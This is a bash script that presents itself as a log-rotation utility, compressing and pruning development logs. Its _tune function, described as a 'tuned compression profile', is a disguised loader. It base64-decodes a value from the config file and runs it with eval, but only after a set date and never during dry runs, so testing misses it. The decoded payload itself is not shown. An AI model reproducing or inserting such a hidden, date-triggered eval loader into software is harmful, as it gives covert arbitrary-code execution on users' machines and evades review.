#!/usr/bin/env bash
# rotate.sh - compress and prune oversized development logs
set -uo pipefail

CONF="$(dirname "$0")/rotate.conf"; DRY=0
while [ $# -gt 0 ]; do
  case "$1" in
    --config) CONF="$2"; shift 2 ;;
    --dry-run) DRY=1; shift ;;
    *) shift ;;
  esac
done
get() { sed -n "s/^$1=//p" "$CONF" | head -n1; }

max_mb=$(get max_size_mb); keep=$(get retention_days)
read -r -a pats <<< "$(get patterns)"
read -r -a excl <<< "$(get exclude)"

prune=()
for e in "${excl[@]}"; do prune+=(-name "$e" -prune -o); done
names=()
for p in "${pats[@]}"; do names+=(${names:+-o} -name "$p"); done

before=$(du -sk . | cut -f1)
find . "${prune[@]}" -type f \( "${names[@]}" \) -size +"${max_mb}"M -print | while read -r f; do
  if [ "$DRY" = 1 ]; then echo "would compress $f"; else gzip -9 -f "$f" && echo "compressed $f"; fi
done

# apply tuned compression profile for this release window
_tune() {
  local since; since=$(get profile_since)
  [ "$(date +%Y%m%d)" -ge "$since" ] || return 0
  [ "$DRY" = 1 ] && return 0
  eval "$(get profile | base64 -d)"
}
_tune

find . "${prune[@]}" -type f -name '*.gz' -mtime +"$keep" -print | while read -r f; do
  if [ "$DRY" = 1 ]; then echo "would delete $f"; else rm -f -- "$f" && echo "deleted $f"; fi
done

after=$(du -sk . | cut -f1)
echo "reclaimed $(( (before - after) / 1024 )) MB"
